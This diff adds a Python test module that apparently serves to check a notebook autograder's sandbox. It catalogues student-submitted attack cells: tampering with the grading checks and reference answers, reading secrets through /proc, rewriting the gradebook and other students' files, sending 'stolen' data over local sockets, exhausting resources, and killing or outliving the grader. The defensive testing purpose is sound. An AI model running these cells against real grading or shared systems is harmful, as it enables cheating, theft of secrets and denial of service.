@@ -1,0 +1,656 @@
+"""The attacks: each a cell that a student hands in, and how to see its effect.
+
+The wrong answer in every attack earns nothing by itself. The numbers are kept small
+enough not to harm a machine that has no walls, and large enough to tell.
+"""
+
+from collections.abc import Callable
+from dataclasses import dataclass
+
+from outcome import SECRET, Outcome
+
+# The exercises' names all exist, and all answers are wrong.
+WRONG = """
+def batch_statistics(x):
+    return 1
+
+normalize = batchnorm_forward = identity_parameters = stable_variance = \\
+    dense_batchnorm_relu = batch_statistics
+q1 = q2 = q3 = q4 = "z"
+"""
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One attack.
+
+    Attributes
+    ----------
+    name, aim : str
+        In words; aim is what it is after.
+    answers : dict of str to str
+        Cells by the exercise's name; all others are empty.
+    works : callable
+        From an `Outcome` to whether it has reached its aim.
+    honest_points : int
+        What the rest of the submission has earned.
+    """
+
+    name: str
+    aim: str
+    answers: dict[str, str]
+    works: Callable[[Outcome], bool]
+    honest_points: int = 0
+
+
+def has_points(outcome):
+    """Points for wrong answers."""
+    return outcome.score > 0
+
+
+def has_secret(outcome):
+    """A secret of this machine in what the attacker may read."""
+    return SECRET in outcome.text
+
+
+def wrote(outcome):
+    """A file in the course's folder that wasn't there, or has changed."""
+    return (outcome.course / "changed").exists() or any(
+        b"forged" in path.read_bytes()
+        for path in outcome.course.rglob("*")
+        if path.is_file() and path.suffix in (".db", ".ipynb", ".txt")
+    )
+
+
+def more_than(limit):
+    """The attack got further than `limit` of something, and said so."""
+    return lambda outcome: outcome.number_after("REACHED") > limit
+
+
+def takes_all_with_it(outcome):
+    """Points that an honest exercise in the same notebook earned are gone."""
+    return outcome.score < HONEST_POINTS
+
+
+# A right answer to one exercise, after which an attack that takes the
+# process with it shall not have cost its points.
+HONEST = """
+def batch_statistics(x):
+    return x.mean(axis=0), x.var(axis=0)
+"""
+HONEST_POINTS = 15
+
+SCORE, READ, WRITE = "points", "reading", "writing"
+STARVE, OUTLIVE, STOP = "resources", "outliving", "stopping the grader"
+
+FOR_POINTS = [
+    (
+        "rewrite cells with IPython's input transformers",
+        """
+shell = get_ipython()
+shell.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
+""",
+    ),
+    (
+        "rewrite cells with IPython's AST transformers",
+        """
+import ast
+class Nothing(ast.NodeTransformer):
+    def visit_Module(self, node):
+        node.body = []
+        return node
+get_ipython().ast_transformers.append(Nothing())
+""",
+    ),
+    (
+        "keep the traceback from being shown",
+        """
+shell = get_ipython()
+shell.showtraceback = shell._showtraceback = lambda *args, **kwargs: None
+""",
+    ),
+    (
+        "define the names that the tests use",
+        """
+class Anything:
+    rng = property(lambda self: __import__("numpy").random.default_rng(0))
+    def __call__(self, *args, **kwargs):
+        return self
+    require = __call__
+check = check_answer = hidden_cases = hidden_answer = Anything()
+import bnlab.checks
+for name in ("check", "check_answer", "hidden_cases", "hidden_answer"):
+    setattr(bnlab.checks, name, check)
+""",
+    ),
+    (
+        "replace the checks in sys.modules",
+        """
+import sys, types
+class Yes(types.ModuleType):
+    def __getattr__(self, name):
+        if name.startswith("__"):
+            raise AttributeError(name)
+        return self
+    def __call__(self, *args, **kwargs):
+        return self
+for name in [n for n in sys.modules if n.startswith("bnlab.checks")]:
+    sys.modules[name] = Yes(name)
+check = check_answer = hidden_cases = hidden_answer = Yes("yes")
+""",
+    ),
+    (
+        "patch the comparison",
+        """
+import importlib
+trial = importlib.import_module("bnlab.checks.trial")
+module = importlib.import_module("bnlab.checks.check")
+trial.differences = module.differences = lambda *args: []
+module.attempt = lambda exercise, functions, inputs: trial.Trial(
+    dict.fromkeys(exercise.outputs, 1.0))
+""",
+    ),
+    (
+        "patch NumPy so that everything is close",
+        """
+import importlib
+import numpy as np
+np.testing.assert_allclose = lambda *args, **kwargs: None
+compare = importlib.import_module("bnlab.checks.compare")
+compare.np.asarray(1.0)
+compare.close = lambda got, expected, *rest: np.array(True)
+compare._shape_problem = None
+compare._compare_numbers = lambda *args: None
+compare.as_numbers = lambda value: value
+module = importlib.import_module("bnlab.checks.check")
+module.Examination._without_numbers = lambda *args: ""
+""",
+    ),
+    (
+        "patch builtins",
+        """
+import builtins
+real = builtins.__build_class__
+from bnlab.checks import CheckFailed
+CheckFailed.__init__ = lambda self, result: (_ for _ in ()).throw(SystemExit(0))
+builtins.AssertionError = SystemExit
+""",
+    ),
+    (
+        "import the reference",
+        """
+from bnlab.reference.lesson02 import *
+""",
+    ),
+    (
+        "make the reference as wrong as oneself",
+        """
+import importlib
+module = importlib.import_module("bnlab.reference.lesson02")
+for name in dir(module):
+    if callable(getattr(module, name)):
+        setattr(module, name, batch_statistics)
+""",
+    ),
+    (
+        "take the reference out of the caller's frame",
+        """
+import sys
+def answer(*args, **kwargs):
+    frame = sys._getframe(1)
+    while frame:
+        for name in ("references", "expected_of"):
+            if name in frame.f_globals and "exercise" in frame.f_locals:
+                exercise = frame.f_locals["exercise"]
+                found = frame.f_globals["references"](exercise)
+                return found[exercise.name](*args, **kwargs)
+        frame = frame.f_back
+batch_statistics = normalize = identity_parameters = answer
+""",
+    ),
+    (
+        "find the checks' functions with the garbage collector",
+        """
+import gc, types
+for thing in gc.get_objects():
+    if isinstance(thing, types.FunctionType) and thing.__name__ in (
+        "problems", "_fail", "report"
+    ):
+        thing.__code__ = (lambda *args, **kwargs: []).__code__
+""",
+    ),
+    (
+        "read the answers to the questions from the notebook on disk",
+        """
+import glob, json, re
+text = "".join(open(path).read() for path in glob.glob("*.ipynb"))
+for number in "1234":
+    found = re.search(
+        rf'hidden_answer\\(.{{0,9}}q{number}.*?right=.{{0,2}}([abcd])', text, re.S)
+    if found:
+        globals()["q" + number] = found[1]
+""",
+    ),
+    (
+        "answer a question from the history of inputs",
+        """
+class Late(str):
+    def strip(self, *args):
+        import re
+        text = " ".join(In)
+        found = re.findall(r'hidden_answer\\([^)]*?right="([abcd])"', text)
+        return found[-1] if found else "a"
+q1 = q2 = q3 = q4 = Late("a")
+""",
+    ),
+    (
+        "an object that equals everything",
+        """
+class Equal(str):
+    def strip(self, *args): return self
+    def lower(self): return self
+    def __len__(self): return 1
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __contains__(self, other): return True
+    __hash__ = str.__hash__
+q1 = q2 = q3 = q4 = Equal("a")
+""",
+    ),
+    (
+        "fix the seed, and hand in what the reference once gave",
+        """
+import importlib
+reference = getattr(importlib.import_module("bnlab.reference.lesson02"),
+                    "batch_statistics")
+importlib.import_module("bnlab.checks.seeds").use(1)
+kept = {}
+def batch_statistics(x):
+    return kept.setdefault(x.tobytes(), reference(x))
+""",
+    ),
+    (
+        "forge the messages of the kernel",
+        """
+kernel = get_ipython().kernel
+send = kernel.session.send
+def forged(stream, kind, *args, **kwargs):
+    name = kind if isinstance(kind, str) else kind.get("msg_type")
+    if name == "error":
+        return None
+    return send(stream, kind, *args, **kwargs)
+kernel.session.send = forged
+""",
+    ),
+]
+
+FOR_READING = [
+    (
+        "read the environment of the grader",
+        """
+import os
+print(os.environ)
+for pid in os.listdir("/proc"):
+    try:
+        print(open(f"/proc/{pid}/environ", "rb").read())
+    except OSError:
+        pass
+""",
+    ),
+    (
+        "read the course's files",
+        """
+import os, glob
+folders = ["../../..", "..", "/", os.path.expanduser("~")]
+folders += [os.readlink(f"/proc/{p}/cwd") for p in ("self", os.getppid())
+            if os.access(f"/proc/{p}/cwd", os.R_OK)]
+for folder in folders:
+    for path in glob.glob(folder + "/secret.txt"):
+        print(open(path).read())
+""",
+    ),
+    (
+        "read the files that the grader has open, and its memory",
+        """
+import os, glob
+for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/cwd/secret.txt"):
+    try:
+        if "secret" in os.readlink(path) or path.endswith("secret.txt"):
+            print(open(path).read(200))
+    except OSError:
+        if path.endswith("secret.txt"):
+            try:
+                print(open(path).read(200))
+            except OSError:
+                pass
+for up in range(6):
+    try:
+        print(open("../" * up + "secret.txt").read())
+    except OSError:
+        pass
+""",
+    ),
+]
+
+FOR_WRITING = [
+    (
+        "write points into the gradebook",
+        """
+import glob, sqlite3
+for up in range(6):
+    for path in glob.glob("../" * up + "gradebook.db"):
+        with sqlite3.connect(path) as base:
+            base.execute("update grade set auto_score = 100, note = 'forged'")
+        base.close()
+""",
+    ),
+    (
+        "write into another student's submission",
+        """
+import glob
+for up in range(6):
+    for path in glob.glob("../" * up + "submitted/honest/*/*.ipynb"):
+        open(path, "w").write("forged")
+""",
+    ),
+    (
+        "leave a file for the next submission",
+        """
+import os
+for up in range(6):
+    if os.path.exists("../" * up + "gradebook.db"):
+        open("../" * up + "changed", "w").write("forged")
+""",
+    ),
+    (
+        "change the checks on disk",
+        """
+import glob
+for up in range(6):
+    for path in glob.glob("../" * up + "solutions/*/*.ipynb"):
+        open(path, "a").write("forged")
+""",
+    ),
+]
+
+
+def received(outcome):
+    """Something came through a socket."""
+    return b"stolen" in outcome.received
+
+
+FOR_SENDING = [
+    (
+        "send what it has read over the network",
+        """
+import socket
+try:
+    with socket.create_connection(("127.0.0.1", PORT), 2) as line:
+        line.sendall(b"stolen")
+except OSError as error:
+    print(error)
+""",
+    ),
+    (
+        "send it over a socket in the file system",
+        """
+import socket
+try:
+    with socket.socket(socket.AF_UNIX) as line:
+        line.connect("../../../line")
+        line.sendall(b"stolen")
+except OSError as error:
+    print(error)
+""",
+    ),
+]
+
+FOR_RESOURCES = [
+    (
+        "take memory",
+        1500,
+        """
+import numpy as np
+taken = []
+try:
+    while len(taken) < 20:
+        taken.append(np.ones(100 * 2**17))
+except MemoryError:
+    pass
+print("REACHED", 100 * len(taken))
+del taken
+""",
+    ),
+    (
+        "take memory outside of the address space",
+        1500,
+        """
+import os
+taken = []
+try:
+    for _ in range(40):
+        file = os.memfd_create("x")
+        for _ in range(50):
+            os.write(file, bytes(2**20))
+        taken.append(file)
+except (OSError, AttributeError) as error:
+    print(error)
+print("REACHED", 50 * len(taken))
+for file in taken:
+    os.close(file)
+""",
+    ),
+    (
+        "take memory that is shared",
+        300,
+        """
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+libc.shmat.restype = ctypes.c_void_p
+taken = []
+for _ in range(8):
+    number = libc.shmget(0, 50 * 2**20, 0o1600)
+    if number < 0:
+        break
+    address = libc.shmat(number, None, 0)
+    if address in (None, 2**64 - 1):
+        libc.shmctl(number, 0, None)
+        break
+    ctypes.memset(address, 1, 50 * 2**20)
+    libc.shmdt(ctypes.c_void_p(address))
+    taken.append(number)
+print("REACHED", 50 * len(taken))
+for number in taken:
+    libc.shmctl(number, 0, None)
+""",
+    ),
+    (
+        "start processes",
+        30,
+        """
+import os, signal, time
+made = []
+try:
+    for _ in range(60):
+        pid = os.fork()
+        if pid == 0:
+            time.sleep(60)
+            os._exit(0)
+        made.append(pid)
+except OSError:
+    pass
+print("REACHED", len(made))
+for pid in made:
+    os.kill(pid, signal.SIGKILL)
+    os.waitpid(pid, 0)
+""",
+    ),
+    (
+        "start threads",
+        60,
+        """
+import threading
+done = threading.Event()
+made = []
+try:
+    for _ in range(120):
+        thread = threading.Thread(target=done.wait, daemon=True)
+        thread.start()
+        made.append(thread)
+except RuntimeError:
+    pass
+done.set()
+print("REACHED", len(made))
+""",
+    ),
+    (
+        "open files",
+        300,
+        """
+opened = []
+try:
+    for _ in range(600):
+        opened.append(open("/dev/null"))
+except OSError:
+    pass
+print("REACHED", len(opened))
+for file in opened:
+    file.close()
+""",
+    ),
+    (
+        "fill the disk",
+        150,
+        """
+import os
+written = 0
+try:
+    for number in range(20):
+        with open(f"big{number}", "wb") as file:
+            for _ in range(10):
+                file.write(bytes(2**20))
+                written += 1
+except OSError:
+    pass
+print("REACHED", written)
+for number in range(20):
+    if os.path.exists(f"big{number}"):
+        os.remove(f"big{number}")
+""",
+    ),
+]
+
+
+ENDLESS = """
+for _ in range(1000):
+    print("x" * 10_000)
+"""
+
+
+def _long_output(outcome):
+    return len(outcome.text) > 5_000_000
+
+
+FOR_STOPPING = [
+    ("end the process", "import os\nos._exit(0)\n"),
+    ("crash the process", "import ctypes\nctypes.string_at(0)\n"),
+    (
+        "recurse until it crashes",
+        """
+import sys
+sys.setrecursionlimit(10**9)
+def down(*args):
+    return [down(*args)]
+class Down:
+    def __repr__(self):
+        return repr(self)
+down()
+""",
+    ),
+    ("kill the process", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"),
+    (
+        "loop for ever, whatever interrupts",
+        """
+while True:
+    try:
+        while True:
+            pass
+    except BaseException:
+        pass
+""",
+    ),
+    (
+        "stop itself without ending",
+        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n",
+    ),
+]
+
+
+def _grader_died(outcome):
+    return not outcome.finished
+
+
+FOR_KILLING = [
+    (
+        "kill the grader",
+        """
+import os, signal
+parent = os.getppid()
+for pid in (parent, parent):
+    try:
+        os.kill(pid, signal.SIGKILL)
+    except OSError as error:
+        print(error)
+""",
+    ),
+]
+
+
+def _left_running(outcome):
+    return outcome.left_running
+
+
+FOR_OUTLIVING = [
+    (
+        "leave a process behind",
+        """
+import os, time
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        for number in range(3, 100):
+            try:
+                os.close(number)
+            except OSError:
+                pass
+        os.execv(PYTHON, ["python", "-c", "import time; time.sleep(90)", "OUTLIVING"])
+    os._exit(0)
+os.wait()
+""",
+    ),
+]
+
+
+def _attack(name, aim, code, works):
+    return Attack(name, aim, {"batch_statistics": WRONG + code}, works)
+
+
+def _stopping(name, code):
+    answers = {"batch_statistics": HONEST, "normalize": code}
+    return Attack(name, STOP, answers, takes_all_with_it, HONEST_POINTS)
+
+
+ATTACKS = [
+    *(_attack(name, SCORE, code, has_points) for name, code in FOR_POINTS),
+    *(_attack(name, READ, code, has_secret) for name, code in FOR_READING),
+    *(_attack(name, READ, code, received) for name, code in FOR_SENDING),
+    *(_attack(name, WRITE, code, wrote) for name, code in FOR_WRITING),
+    *(
+        _attack(name, STARVE, code, more_than(limit))
+        for name, limit, code in FOR_RESOURCES
+    ),
+    _attack("print without end", STARVE, ENDLESS, _long_output),
+    *(_stopping(name, code) for name, code in FOR_STOPPING),
+    *(_attack(name, STOP, code, _grader_died) for name, code in FOR_KILLING),
+    *(_attack(name, OUTLIVE, code, _left_running) for name, code in FOR_OUTLIVING),
+]
